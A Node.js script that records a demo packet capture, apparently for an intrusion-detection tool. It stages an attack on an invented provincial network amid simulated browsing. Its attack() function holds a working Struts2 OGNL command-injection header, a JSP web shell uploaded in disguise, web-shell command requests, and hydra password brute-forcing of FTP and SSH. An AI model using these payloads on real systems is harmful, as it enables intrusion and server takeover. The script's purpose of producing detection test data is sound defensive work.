/**
 * Makes deploy/demo/demo.pcap: `node rules/make/demo.mjs` as root, about a minute and a half. A staged attack on an invented
 * province network with real tools and real TCP, amid ordinary browsing, DNS and TLS of several units.
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import { createServer as createTls } from 'node:https';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';
import { Rig } from './rig.mjs';

const here = fileURLToPath(import.meta.url);
const out = join(dirname(here), '../../deploy/demo/demo.pcap');
// Addresses of deploy/registry.sample.yaml: Wuhan's cloud, Yichang's, the office platform; guests and attacker outside.
const PORTAL = '10.101.1.10', FTP = '10.104.2.15', SSH = '10.0.6.20', RESOLVER = '10.0.1.53';
const SITES = { [PORTAL]: 'portal.wuhan.example', '10.0.3.10': 'zwfw.example.cn', '10.0.7.10': 'www.example.cn', '10.104.1.10': 'www.yichang.example', '10.105.1.10': 'oa.xiangyang.example' };
const CLIENTS = ['172.16.16.21', '172.16.16.22', '172.16.64.31', '172.16.80.40', '198.51.100.17', '198.51.100.84'];
const ATTACKER = '192.0.2.66';

if (process.argv[2] === '--serve') serve(process.argv[3]);
else await record();

function serve(work) {
  let seed = 7;
  const words = ['通知公告', '办事指南', '政策文件', '数据目录', '统计公报', '项目审批', '信用信息', '电子证照'];
  const pageOf = (host, url) => {
    seed = (seed * 48271) % 0x7fffffff;
    const items = Array.from({ length: 3 + (seed % 9) }, (_, i) => `<li><a href="${url}${i}.html">${words[(seed + i) % words.length]}（${2019000 + ((seed >> 3) % 900) + i}）</a></li>`);
    return `<!DOCTYPE html><html lang="zh-CN"><head><meta charset="utf-8"><title>${host}</title></head><body><ul>${items.join('')}</ul></body></html>`;
  };
  const answer = (request, response) => {
    const chunks = [];
    request.on('data', (c) => chunks.push(c));
    request.on('end', () => {
      const body = Buffer.concat(chunks).toString('latin1');
      const type = request.headers['content-type'] ?? '';
      const command = /#cmd='([^']+)'/.exec(type)?.[1];
      const say = (text, kind = 'text/html;charset=UTF-8', status = 200) => response.writeHead(status, { 'Content-Type': kind, Server: 'Apache-Coyote/1.1' }).end(text);
      if (command) say(`${{ id: 'uid=1001(tomcat) gid=1001(tomcat) groups=1001(tomcat)', pwd: '/opt/tomcat' }[command] ?? 'Linux portal 4.9.0-11-amd64 #1 SMP Debian x86_64 GNU/Linux'}\n`, 'text/plain');
      else if (request.method === 'POST' && request.url.startsWith('/upload.action')) say('{"code":0,"url":"/files/20191018/banner.jsp"}', 'application/json');
      else if (request.url.startsWith('/files/20191018/banner.jsp')) {
        const kind = /=([A-Q])&/.exec(body)?.[1];
        say(`->|${{ A: '/opt/tomcat/webapps/ROOT\t/', B: 'WEB-INF/\t2019-10-01 09:00:00\t4096\t\nindex.jsp\t2019-09-12 17:20:11\t8231\t\nfiles/\t2019-10-18 10:01:30\t4096\t\n', M: 'uid=1001(tomcat) gid=1001(tomcat)\n/opt/tomcat\n[S]\n/opt/tomcat\n[E]\n' }[kind] ?? ''}|<-`);
      } else if (/admin|backup|\.git/.test(request.url)) say('<h1>404</h1>', 'text/html', 404);
      else say(pageOf(request.headers.host, request.url));
    });
  };
  for (const ip of Object.keys(SITES)) {
    createServer(answer).listen(80, ip);
    createTls({ key: readFileSync(join(work, 'tls.key')), cert: readFileSync(join(work, 'tls.crt')) }, answer).listen(443, ip);
  }
  createServer(answer).listen(8080, PORTAL);
  const dns = createSocket('udp4');
  dns.on('message', (query, from) => {
    let end = 12;
    const labels = [];
    while (query[end]) {
      labels.push(query.toString('latin1', end + 1, end + 1 + query[end]));
      end += query[end] + 1;
    }
    const ip = Object.entries(SITES).find(([, name]) => name === labels.join('.'))?.[0];
    const head = Buffer.from(query.subarray(0, end + 5));
    head.writeUInt16BE(ip ? 0x8180 : 0x8183, 2);
    head.writeUInt16BE(ip ? 1 : 0, 6);
    head.writeUInt16BE(0, 10);
    const record = ip ? Buffer.from([0xc0, 12, 0, 1, 0, 1, 0, 0, 1, 44, 0, 4, ...ip.split('.').map(Number)]) : Buffer.alloc(0);
    dns.send(Buffer.concat([head, record]), from.port, from.address);
  });
  dns.bind(53, RESOLVER);
}

async function record() {
  const work = mkdtempSync(join(tmpdir(), 'sw-demo-'));
  const rig = new Rig();
  try {
    rig.open([ATTACKER, ...CLIENTS], [...Object.keys(SITES), FTP, SSH, RESOLVER]);
    execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-days', '365', '-subj', '/C=CN/O=Province/CN=zwfw.wuhan.example', '-keyout', join(work, 'tls.key'), '-out', join(work, 'tls.crt')], { stdio: 'ignore' });
    execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', join(work, 'key')]);
    execFileSync('mkdir', ['-p', '/run/sshd']);
    writeFileSync(join(work, 'sshd'), `Port 22\nListenAddress ${SSH}\nHostKey ${join(work, 'key')}\nPidFile none\nUsePAM no\nMaxStartups 100\nUseDNS no\nPrintMotd no\n`);
    writeFileSync(join(work, 'ftpd'), `listen=YES\nlisten_address=${FTP}\nlocal_enable=YES\nanonymous_enable=NO\nseccomp_sandbox=NO\nbackground=NO\npam_service_name=login\n`);
    spawnSync('useradd', ['-M', '-d', '/var/tmp', '-s', '/bin/bash', '-p', execFileSync('openssl', ['passwd', '-6', 'Spring#2019']).toString().trim(), 'operator1']);
    rig.victim(process.execPath, here, '--serve', work);
    rig.victim('/usr/sbin/sshd', '-D', '-f', join(work, 'sshd'));
    rig.victim('/usr/sbin/vsftpd', join(work, 'ftpd'));
    await sleep(1200);
    writeFileSync(join(work, 'ftp'), [...Array.from({ length: 19 }, (_, i) => `Winter#${2000 + i}`), 'Spring#2019'].join('\n'));
    writeFileSync(join(work, 'ssh'), Array.from({ length: 96 }, (_, i) => `Autumn#${i}`).join('\n'));

    await rig.capture(out, async () => {
      let busy = true;
      const noise = CLIENTS.map((client, i) => browse(rig, client, i, () => busy));
      await sleep(6000);
      await attack(rig, work);
      await sleep(5000);
      busy = false;
      await Promise.all(noise);
    });
  } finally {
    rig.close();
    spawnSync('userdel', ['operator1']);
    rmSync(work, { recursive: true, force: true });
  }
}

async function browse(rig, client, i, busy) {
  const hosts = Object.entries(SITES);
  await sleep(i * 700);
  const ask = "const{Resolver}=require('dns');const r=new Resolver();r.setServers(['10.0.1.53']);r.setLocalAddress(process.argv[1]);r.resolve4(process.argv[2],()=>{})";
  for (let n = 0; busy(); n++) {
    const [ip, name] = hosts[(n * 3 + i) % hosts.length];
    await rig.attack(process.execPath, '-e', ask, client, n % 6 === 5 ? `wpad.unit${i}.example` : name);
    const tls = (n + i) % 3 === 0;
    const paths = ['/', '/style/main.css', `/list/${n}.html`];
    const urls = paths.map((p) => `${tls ? 'https' : 'http'}://${name}${p}`);
    await rig.attack('curl', '-sk', '-m', '5', '--interface', client, '--resolve', `${name}:${tls ? 443 : 80}:${ip}`, '-A', 'Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 Chrome/77.0.3865.120 Safari/537.36', ...urls);
    await sleep(3500 + ((n * 977 + i * 431) % 3000));
  }
}

async function attack(rig, work) {
  const curl = (...args) => rig.attack('curl', '-s', '-m', '8', '--interface', ATTACKER, '-A', 'Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/68.0', ...args);
  const site = `http://${PORTAL}:8080`;
  await rig.attack('nmap', '-n', '-Pn', '-e', 'eth0', '-S', ATTACKER, '-sS', '-T4', '--top-ports', '150', PORTAL);
  await sleep(4000);
  await curl(`${site}/index.action`);
  for (const cmd of ['id', 'uname -a', 'pwd']) {
    await curl('-H', `Content-Type: %{(#nike='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='${cmd}').(#cmds={'/bin/bash','-c',#cmd}).(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#process=#p.start()).(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream())).(@org.apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}`, `${site}/index.action`);
    await sleep(2500);
  }
  writeFileSync(join(work, 'banner.jsp'), '<%@page import="java.io.*,java.util.*"%><%String c=request.getParameter("pass");if(c!=null){out.print("->|");Process p=Runtime.getRuntime().exec(request.getParameter("z1"));out.print("|<-");}%>');
  await curl('-F', `file=@${join(work, 'banner.jsp')};type=image/jpeg;filename=banner.jsp`, `${site}/upload.action`);
  await sleep(3000);
  for (const body of ['pass=A&z0=UTF-8&z1=&z2=', 'pass=B&z0=UTF-8&z1=%2Fopt%2Ftomcat%2Fwebapps%2FROOT&z2=', 'pass=M&z0=UTF-8&z1=%2Fc%2Fbin%2Fsh&z2=cd+%22%2Fopt%2Ftomcat%22%3Bid%3Bpwd']) {
    await curl('-d', body, `${site}/files/20191018/banner.jsp`);
    await sleep(2500);
  }
  await rig.attack('hydra', '-I', '-f', '-t', '4', '-l', 'operator1', '-P', join(work, 'ftp'), `ftp://${FTP}`);
  await sleep(2000);
  await rig.attack('hydra', '-I', '-f', '-t', '16', '-l', 'root', '-P', join(work, 'ssh'), `ssh://${SSH}`);
}
